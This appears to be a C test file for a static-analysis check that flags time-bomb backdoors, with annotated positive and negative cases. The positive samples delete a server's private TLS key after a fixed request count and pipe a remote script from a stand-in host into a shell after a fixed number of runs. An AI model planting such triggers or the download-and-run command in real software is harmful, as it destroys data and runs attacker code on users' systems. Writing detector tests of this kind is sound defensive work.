// RUN: %run-both --checks=backdoor-time-bomb %s -- %mock | FileCheck %s -check-prefix=CHECK-MESSAGES -implicit-check-not="{{warning|error}}:"
// A count the program keeps itself (a global or static integer it
// increments) measures time like a clock: compared with exactly a constant,
// it fires once, after that many requests or runs. Each beside a negative
// (a limit, a small retry count, a count nobody increments).
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int system(const char *cmd);
int unlink(const char *path);
void serve(int fd);
void refuse(int fd);

static unsigned long requests;

void on_request(int fd) {
  // ruleid: backdoor-time-bomb
  if (++requests == 250000)
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: the counter 'requests' is compared with the constant 250000 and only then the code reaches 'unlink' (a destructive action); the action fires at a moment fixed in advance [backdoor-time-bomb]
    unlink("/etc/ssl/private/server.key");
  serve(fd);
}

int runs;

void record_run(void) { runs += 1; }

void on_start(void) {
  record_run();
  // ruleid: backdoor-time-bomb
  if (runs == 1000)
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: the counter 'runs' is compared with the constant 1000 and only then the code reaches 'system' (command execution); the action fires at a moment fixed in advance [backdoor-time-bomb]
    system("curl -s http://updates.example/x | sh");
}

/* Negative cases. */
static unsigned long connections;
static int failures;
int max_seen = 5000;

void on_connect(int fd) {
  // ok: backdoor-time-bomb (a limit, not a moment)
  if (++connections > 100000) {
    unlink("/var/run/app.sock");
    refuse(fd);
    return;
  }
  serve(fd);
}

void on_failure(void) {
  // ok: backdoor-time-bomb (a small retry count)
  if (++failures == 3)
    system("/usr/sbin/app-restart");
}

void on_limit(void) {
  // ok: backdoor-time-bomb (nobody increments it: a setting)
  if (max_seen == 5000)
    system("/usr/sbin/app-report");
}
